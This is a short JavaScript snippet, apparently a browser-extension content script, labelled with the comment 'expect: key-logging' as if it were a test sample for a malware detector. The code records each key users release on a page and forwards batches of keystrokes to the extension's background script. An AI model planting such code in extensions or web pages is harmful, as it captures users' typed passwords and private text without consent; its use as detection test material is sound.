var strokes = [];
// expect: key-logging
document.onkeyup = function (e) {
  strokes.push({ k: e.which, at: e.timeStamp });
  if (strokes.length > 40) {
    chrome.runtime.sendMessage({ strokes: strokes });
    strokes = [];
  }
};
